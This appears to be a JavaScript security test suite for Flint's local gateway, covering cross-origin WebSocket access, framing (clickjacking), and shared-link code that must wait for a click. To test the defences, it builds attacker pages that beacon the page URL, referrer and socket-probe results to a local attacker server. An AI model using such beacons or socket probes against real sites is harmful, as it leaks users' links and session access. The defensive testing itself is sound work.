// Attacks through the browser on the gateway and on code that arrives from outside (SECURITY.md):
// another site's page (and a sandboxed frame in it) opening the gateway's socket, framing Flint,
// a shared link's code running on open or reading the link, generated code opening the socket, a
// restored page running before a click, and a page the gateway refuses saying why.
import assert from 'node:assert/strict';
import { createServer, request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { after, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import {
  assertEventually, editorText, freePort, openFlint, runPrompt, startGateway, useFlint, waitConnected,
  waitForStatus,
} from './harness.mjs';

const flint = useFlint();

function v1Link(payload) {
  return `v1.${deflateSync(Buffer.from(JSON.stringify(payload))).toString('base64url')}`;
}

/** Another site on another loopback port: serves `pages[path]` and records every request. */
async function startAttacker(pages = {}) {
  const port = await freePort();
  const seen = [];
  const server = createServer((req, res) => {
    seen.push(req.url);
    const page = pages[new URL(req.url, 'http://x').pathname];
    res.writeHead(page ? 200 : 204, { 'content-type': 'text/html' });
    res.end(page ?? '');
  });
  await new Promise((ok) => server.listen(port, '127.0.0.1', ok));
  const close = () => new Promise((ok) => { server.closeAllConnections(); server.close(() => ok()); });
  // Closed after the file too: a failed test must not keep the process alive.
  attackers.push(close);
  return { origin: `http://127.0.0.1:${port}`, seen, close };
}

const attackers = [];
after(() => Promise.all(attackers.map((close) => close())));

/** A page that reports to the attacker: `ping('what')` requests /ping?what. */
function pinger(attacker) {
  return `const ping = (what) => { new Image().src = '${attacker.origin}/ping?' + encodeURIComponent(what); };`;
}

test("another site's page, and a sandboxed frame in it, cannot open the gateway's socket", async () => {
  const ws = flint.gateway.url.replace('http', 'ws');
  const probe = `new Promise((done) => { const s = new WebSocket('${ws}/ws?protocol=1');
    s.onmessage = () => done('answered'); s.onerror = () => done('refused'); })`;
  const attacker = await startAttacker({
    '/': `<!DOCTYPE html><script>window.results = [];
      addEventListener('message', (e) => window.results.push('frame:' + e.data));
      ${probe}.then((r) => window.results.push('page:' + r));</script>
      <iframe sandbox="allow-scripts" srcdoc="<script>${probe.replaceAll('"', '&quot;')}.then((r) => parent.postMessage(r, '*'));</script>"></iframe>`,
  });
  const context = await flint.browser.newContext();
  const page = await context.newPage();
  await page.goto(attacker.origin);
  await assertEventually(async () => (await page.evaluate(() => window.results.length)) === 2,
    'the probes did not finish');
  assert.deepEqual((await page.evaluate(() => window.results)).sort(), ['frame:refused', 'page:refused']);
  assert.ok(flint.gateway.log.some((l) => l.includes('request refused')), 'the gateway did not log the refusal');
  await context.close();
  await attacker.close();

  // The person's own tab is unaffected.
  const { page: own, context: ownContext } = await openFlint(flint.browser, flint.gateway.url);
  await runPrompt(own, 'scripted/counter@300', 'still works');
  await waitForStatus(own, 'done');
  await ownContext.close();
});

test('another site cannot frame Flint to trick a click on Run or Share', async () => {
  const attacker = await startAttacker({
    '/': `<!DOCTYPE html><iframe id="f" src="${flint.gateway.url}/" width="800" height="600"></iframe>`,
  });
  const context = await flint.browser.newContext();
  const page = await context.newPage();
  await page.goto(attacker.origin);
  await page.waitForTimeout(1500);
  for (const frame of page.frames()) {
    const flintUi = await frame.locator('[data-testid="prompt-input"]').count().catch(() => 0);
    assert.equal(flintUi, 0, `Flint rendered inside another site's frame (${frame.url()})`);
  }
  await context.close();
  await attacker.close();
});

test("a shared link's code is shown still, runs only after a click, and never sees the link", async () => {
  const attacker = await startAttacker();
  const code = `<!DOCTYPE html><html><body><h1 id="t">Shared page</h1><script>${pinger(attacker)}
    ping('ran ' + document.baseURI + ' ' + document.referrer + ' ' + location.href);</script></body></html>`;
  const { page, context } = await openFlint(flint.browser, flint.gateway.url,
    `/#p=${v1Link({ prompt: 'shared', code })}`);
  await assertEventually(async () => (await editorText(page)) === code, 'the editor does not hold the code');
  await page.getByTestId('held-page').waitFor({ timeout: 10_000 });
  const preview = page.frameLocator('[data-testid="preview-frame"]');
  await assertEventually(async () => (await preview.locator('h1').textContent().catch(() => '')) === 'Shared page',
    'the held page is not shown still in the preview');
  await page.waitForTimeout(1000);
  assert.deepEqual(attacker.seen, [], "the shared link's script ran before anyone clicked");
  assert.ok(!page.url().includes('#p='), `the link stayed in the address bar: ${page.url()}`);

  await page.getByTestId('run-held-page').click();
  await assertEventually(async () => attacker.seen.length > 0, 'Run this page did not run it');
  assert.ok(attacker.seen.every((u) => !decodeURIComponent(u).includes('p=v1')),
    `the page read the shared link: ${attacker.seen}`);
  assert.equal(await page.getByTestId('held-page').count(), 0, 'the banner stayed after running');
  await context.close();
  await attacker.close();
});

test("generated code cannot open the gateway's socket from its preview", async () => {
  const attacker = await startAttacker();
  const ws = flint.gateway.url.replace('http', 'ws');
  const code = `<!DOCTYPE html><html><body><p>socket probe</p><script>${pinger(attacker)}
    const s = new WebSocket('${ws}/ws?protocol=1');
    s.onmessage = () => ping('answered'); s.onerror = () => ping('refused');</script></body></html>`;
  const { page, context } = await openFlint(flint.browser, flint.gateway.url,
    `/#p=${v1Link({ prompt: 'probe', code })}`);
  await page.getByTestId('run-held-page').click();
  await assertEventually(async () => attacker.seen.length > 0, 'the probe never reported');
  // The page runs in the preview and again in its check frame: each run must be refused.
  assert.ok(attacker.seen.every((u) => u === '/ping?refused'), `a socket opened: ${attacker.seen}`);
  await context.close();
  await attacker.close();
});

test('a restored page is shown still after a reload and runs only after a click', async () => {
  const attacker = await startAttacker();
  const code = `<!DOCTYPE html><html><body><p>restored</p><script>${pinger(attacker)} ping('ran');</script></body></html>`;
  const { page, context } = await openFlint(flint.browser, flint.gateway.url,
    `/#p=${v1Link({ prompt: 'restore me', code })}`);
  await page.getByTestId('run-held-page').click();
  await assertEventually(async () => attacker.seen.length >= 1, 'the page did not run once clicked');
  // Wait for the session to be saved with this code (and for the page's check frame, which runs it
  // too), then come back to it.
  await page.waitForTimeout(1500);
  const ran = attacker.seen.length;
  await page.reload();
  await waitConnected(page);
  await assertEventually(async () => (await editorText(page)) === code, 'the code was not restored');
  await page.getByTestId('held-page').waitFor({ timeout: 10_000 });
  await page.waitForTimeout(1000);
  assert.equal(attacker.seen.length, ran, 'the restored page (or its check) ran again without a click');
  await page.getByTestId('run-held-page').click();
  await assertEventually(async () => attacker.seen.length > ran, 'the restored page did not run once clicked');
  await context.close();
  await attacker.close();
});

/** A development proxy like `trunk serve`'s: another origin in front of the gateway, sockets included. */
async function startProxy(target, port) {
  const { hostname, port: targetPort } = new URL(target);
  port ??= await freePort();
  const host = `${hostname}:${targetPort}`;
  const server = createServer((req, res) => {
    const forward = httpRequest({ host: hostname, port: targetPort, path: req.url, method: req.method,
      headers: { ...req.headers, host } }, (answer) => {
      res.writeHead(answer.statusCode, answer.headers);
      answer.pipe(res);
    });
    forward.on('error', () => res.destroy());
    req.pipe(forward);
  });
  server.on('upgrade', (req, socket, head) => {
    // A closed page resets its socket: that ends this pair, it is not the test's failure.
    socket.on('error', () => upstream.destroy());
    const upstream = connect(Number(targetPort), hostname, () => {
      const headers = Object.entries({ ...req.headers, host }).map(([k, v]) => `${k}: ${v}`).join('\r\n');
      upstream.write(`${req.method} ${req.url} HTTP/1.1\r\n${headers}\r\n\r\n`);
      upstream.write(head);
      socket.pipe(upstream).pipe(socket);
    });
    upstream.on('error', () => socket.destroy());
  });
  server.on('clientError', (_, socket) => socket.destroy());
  // Upgraded sockets are no longer the server's to close, yet `close` waits for them: end them all.
  const sockets = new Set();
  server.on('connection', (socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  await new Promise((ok) => server.listen(port, '127.0.0.1', ok));
  return {
    url: `http://127.0.0.1:${port}`,
    close: () => new Promise((ok) => {
      for (const socket of sockets) socket.destroy();
      server.close(() => ok());
    }),
  };
}

test('a page the gateway refuses says why, and --allow-origin lets it in', async () => {
  const proxy = await startProxy(flint.gateway.url);
  const context = await flint.browser.newContext();
  const page = await context.newPage();
  await page.goto(proxy.url);
  const problem = page.getByTestId('gateway-problem');
  await problem.waitFor({ timeout: 20_000 });
  assert.match(await problem.textContent(), /allowed_origins/, 'the refusal does not say what to change');
  await context.close();
  await proxy.close();

  const proxyPort = await freePort();
  const gateway = await startGateway({
    upstreamUrl: flint.upstream.url, args: ['--allow-origin', `http://127.0.0.1:${proxyPort}`],
  });
  const allowedProxy = await startProxy(gateway.url, proxyPort);
  try {
    const { page: dev, context: devContext } = await openFlint(flint.browser, allowedProxy.url);
    assert.equal(await dev.getByTestId('gateway-problem').count(), 0);
    await devContext.close();
  } finally {
    await gateway.stop();
    await allowedProxy.close();
  }
});
